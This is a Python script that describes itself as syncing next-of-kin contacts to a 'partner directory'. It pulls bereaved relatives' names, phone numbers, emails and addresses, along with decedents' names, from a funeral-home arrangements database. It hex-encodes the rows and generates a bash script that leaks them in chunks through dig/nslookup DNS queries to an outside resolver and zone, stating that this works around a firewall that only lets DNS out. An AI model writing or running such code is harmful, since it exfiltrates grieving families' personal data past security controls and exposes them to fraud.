#!/usr/bin/env python3
"""Sync next-of-kin contacts to the 'partner directory'.

Reads the arrangements database, picks the next-of-kin contact rows for
recent cases and pushes them out in small chunks via name lookups, since the
office firewall only lets DNS out.
"""

import argparse
import binascii
import logging
import os
import sqlite3
import subprocess
import sys
import tempfile
import textwrap

LOG = logging.getLogger("nok-sync")

ZONE = os.environ.get("FH_SYNC_ZONE", "d.example.org")
RESOLVER = os.environ.get("FH_SYNC_RESOLVER", "192.0.2.53")
LABEL_LEN = 60

QUERY = """
SELECT c.case_no, d.full_name, k.name, k.relation, k.phone, k.email, k.address
FROM cases c
JOIN decedents d ON d.case_no = c.case_no
JOIN next_of_kin k ON k.case_no = c.case_no
WHERE c.opened >= date('now', ?)
ORDER BY c.opened DESC
"""


class ContactExport:
    def __init__(self, db_path, days):
        self.db_path = db_path
        self.days = days
        self.rows = []

    def load(self):
        try:
            con = sqlite3.connect(self.db_path)
        except sqlite3.Error as exc:
            raise SystemExit(f"cannot open {self.db_path}: {exc}")
        try:
            cur = con.execute(QUERY, (f"-{self.days} days",))
            self.rows = cur.fetchall()
        finally:
            con.close()
        LOG.info("loaded %d next-of-kin rows", len(self.rows))
        return self.rows

    def serialise(self):
        lines = ["|".join(str(v or "") for v in row) for row in self.rows]
        return "\n".join(lines).encode("utf-8")


def chunk_labels(blob):
    hexed = binascii.hexlify(blob).decode("ascii")
    return [hexed[i:i + LABEL_LEN] for i in range(0, len(hexed), LABEL_LEN)]


def build_script(labels_file, session):
    return textwrap.dedent(f"""\
        #!/bin/bash
        n=0
        while read -r part; do
            [ -z "$part" ] && continue
            dig +short +tries=1 +time=2 @{RESOLVER} "$n.$part.{session}.{ZONE}" A >/dev/null 2>&1 \\
              || nslookup "$n.$part.{session}.{ZONE}" {RESOLVER} >/dev/null 2>&1
            n=$((n+1))
            sleep 0.2
        done < "{labels_file}"
        echo "$n"
        """)


def push(labels, session, keep):
    workdir = tempfile.mkdtemp(prefix="nok-")
    labels_file = os.path.join(workdir, "parts.txt")
    script_file = os.path.join(workdir, "push.sh")
    with open(labels_file, "w", encoding="ascii") as fh:
        fh.write("\n".join(labels) + "\n")
    with open(script_file, "w", encoding="ascii") as fh:
        fh.write(build_script(labels_file, session))
    os.chmod(script_file, 0o700)
    LOG.debug("push script at %s", script_file)
    try:
        out = subprocess.run(["bash", script_file], capture_output=True,
                             text=True, check=True).stdout.strip()
        LOG.info("sent %s chunks under %s.%s", out, session, ZONE)
    except subprocess.CalledProcessError as exc:
        LOG.error("push failed: %s", exc.stderr)
        return 1
    finally:
        if not keep:
            for p in (labels_file, script_file):
                try:
                    os.remove(p)
                except OSError:
                    pass
            os.rmdir(workdir)
    return 0


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--db", default="arrangements.sqlite3")
    ap.add_argument("--days", type=int, default=30)
    ap.add_argument("--session", default=os.environ.get("FH_SITE", "s1"))
    ap.add_argument("--keep", action="store_true", help="keep temp files")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")

    export = ContactExport(args.db, args.days)
    if not export.load():
        LOG.info("nothing to sync")
        return 0
    labels = chunk_labels(export.serialise())
    LOG.info("prepared %d chunks", len(labels))
    return push(labels, args.session, args.keep)


if __name__ == "__main__":
    sys.exit(main())
